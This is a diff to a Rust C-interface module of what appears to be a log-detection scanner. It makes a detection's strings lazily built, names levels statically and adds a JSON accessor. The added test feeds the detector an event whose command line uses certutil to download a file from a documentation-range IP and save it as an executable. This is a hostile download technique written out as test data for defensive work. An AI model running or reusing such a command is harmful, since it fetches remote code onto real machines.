@@ -1,27 +1,32 @@
 //! `lw_detection`: one detection, lent to the callback.
+//!
+//! The C strings are made on first ask, not when the detection is handed
+//! over: a filter that reads only the rule id, or only the JSON, pays for
+//! that alone.
 
+use std::cell::OnceCell;
 use std::ffi::{c_char, CString};
 
 use crate::error::c_string;
 
 /// A detection, valid only during the `lw_on_detection` callback that
 /// receives it (copy what you keep). Its strings are UTF-8 and
-/// NUL-terminated.
-pub struct lw_detection {
-    rule: CString,
-    title: CString,
-    level: CString,
-    tags: Vec<CString>,
+/// NUL-terminated, and valid until the callback returns.
+pub struct lw_detection<'a> {
+    d: &'a lw::Detection,
+    rule: OnceCell<CString>,
+    title: OnceCell<CString>,
+    tags: OnceCell<Vec<CString>>,
+    json: OnceCell<CString>,
 }
 
-impl lw_detection {
-    pub(crate) fn new(d: &lw::Detection) -> lw_detection {
-        lw_detection {
-            rule: c_string(&d.rule),
-            title: c_string(&d.title),
-            level: c_string(d.level.as_str()),
-            tags: d.tags.iter().map(|t| c_string(t)).collect(),
-        }
+impl<'a> lw_detection<'a> {
+    pub(crate) fn new(d: &'a lw::Detection) -> lw_detection<'a> {
+        lw_detection { d, rule: OnceCell::new(), title: OnceCell::new(), tags: OnceCell::new(), json: OnceCell::new() }
+    }
+
+    fn tags(&self) -> &[CString] {
+        self.tags.get_or_init(|| self.d.tags.iter().map(|t| c_string(t)).collect())
     }
 }
 
@@ -30,9 +35,9 @@ impl lw_detection {
 /// # Safety
 /// `d` is NULL or the detection a callback received, during that callback.
 #[no_mangle]
-pub unsafe extern "C" fn lw_detection_rule(d: *const lw_detection) -> *const c_char {
+pub unsafe extern "C" fn lw_detection_rule(d: *const lw_detection<'_>) -> *const c_char {
     // SAFETY: the caller's contract.
-    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.rule.as_ptr())
+    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.rule.get_or_init(|| c_string(&d.d.rule)).as_ptr())
 }
 
 /// The rule's title; "" for NULL.
@@ -40,19 +45,30 @@ pub unsafe extern "C" fn lw_detection_rule(d: *const lw_detection) -> *const c_c
 /// # Safety
 /// As lw_detection_rule.
 #[no_mangle]
-pub unsafe extern "C" fn lw_detection_title(d: *const lw_detection) -> *const c_char {
+pub unsafe extern "C" fn lw_detection_title(d: *const lw_detection<'_>) -> *const c_char {
     // SAFETY: the caller's contract.
-    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.title.as_ptr())
+    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.title.get_or_init(|| c_string(&d.d.title)).as_ptr())
 }
 
-/// "informational", "low", "medium", "high" or "critical"; "" for NULL.
+/// "informational", "low", "medium", "high" or "critical" (a static
+/// string); "" for NULL.
 ///
 /// # Safety
 /// As lw_detection_rule.
 #[no_mangle]
-pub unsafe extern "C" fn lw_detection_level(d: *const lw_detection) -> *const c_char {
+pub unsafe extern "C" fn lw_detection_level(d: *const lw_detection<'_>) -> *const c_char {
     // SAFETY: the caller's contract.
-    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.level.as_ptr())
+    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| level_name(d.d.level).as_ptr())
+}
+
+fn level_name(level: lw::Level) -> &'static std::ffi::CStr {
+    match level {
+        lw::Level::Informational => c"informational",
+        lw::Level::Low => c"low",
+        lw::Level::Medium => c"medium",
+        lw::Level::High => c"high",
+        lw::Level::Critical => c"critical",
+    }
 }
 
 /// How many tags the rule has (0 for NULL).
@@ -60,9 +76,9 @@ pub unsafe extern "C" fn lw_detection_level(d: *const lw_detection) -> *const c_
 /// # Safety
 /// As lw_detection_rule.
 #[no_mangle]
-pub unsafe extern "C" fn lw_detection_tag_count(d: *const lw_detection) -> usize {
+pub unsafe extern "C" fn lw_detection_tag_count(d: *const lw_detection<'_>) -> usize {
     // SAFETY: the caller's contract.
-    unsafe { d.as_ref() }.map_or(0, |d| d.tags.len())
+    unsafe { d.as_ref() }.map_or(0, |d| d.d.tags.len())
 }
 
 /// Tag `i` (from 0); NULL when `i` is not below the count.
@@ -70,10 +86,52 @@ pub unsafe extern "C" fn lw_detection_tag_count(d: *const lw_detection) -> usize
 /// # Safety
 /// As lw_detection_rule.
 #[no_mangle]
-pub unsafe extern "C" fn lw_detection_tag(d: *const lw_detection, i: usize) -> *const c_char {
+pub unsafe extern "C" fn lw_detection_tag(d: *const lw_detection<'_>, i: usize) -> *const c_char {
     // SAFETY: the caller's contract.
-    match unsafe { d.as_ref() }.and_then(|d| d.tags.get(i)) {
+    match unsafe { d.as_ref() }.and_then(|d| d.tags().get(i)) {
         Some(t) => t.as_ptr(),
         None => std::ptr::null(),
+    }
+}
+
+/// The whole detection as one JSON object: the object `landwatch scan
+/// --format jsonl` writes for it (rule, title, level, tags, time, host,
+/// user, channel, event_id, record, file, line, evidence, and for a
+/// correlation group, window, count, values, value, events). Valid during
+/// the callback; "" for NULL.
+///
+/// # Safety
+/// As lw_detection_rule.
+#[no_mangle]
+pub unsafe extern "C" fn lw_detection_json(d: *const lw_detection<'_>) -> *const c_char {
+    // SAFETY: the caller's contract.
+    unsafe { d.as_ref() }.map_or(c"".as_ptr(), |d| d.json.get_or_init(|| c_string(&d.d.to_json())).as_ptr())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::ffi::CStr;
+
+    #[test]
+    fn the_json_is_the_cli_object_and_levels_are_named() {
+        let rules = lw::RulesBuilder::new().add_builtin().build().unwrap();
+        let mut s = lw::Scanner::new(std::sync::Arc::new(rules));
+        let ev = br#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -split -f http://203.0.113.9/a.txt a.exe","Computer":"ws1"}"#;
+        let found = s.scan_json(ev).unwrap();
+        assert!(!found.is_empty());
+        for f in &found {
+            let det = lw_detection::new(f);
+            let json = unsafe { CStr::from_ptr(lw_detection_json(&det)) }.to_str().unwrap();
+            let v: serde_json::Value = serde_json::from_str(json).unwrap();
+            assert_eq!(v["rule"], f.rule.as_str());
+            assert_eq!(v["host"], "ws1");
+            assert_eq!(json, f.to_json());
+            let level = unsafe { CStr::from_ptr(lw_detection_level(&det)) }.to_str().unwrap();
+            assert_eq!(level, f.level.as_str());
+            assert_eq!(unsafe { lw_detection_tag_count(&det) }, f.tags.len());
+            assert!(unsafe { lw_detection_tag(&det, f.tags.len()) }.is_null());
+        }
+        assert_eq!(unsafe { CStr::from_ptr(lw_detection_json(std::ptr::null())) }.to_bytes(), b"");
     }
 }
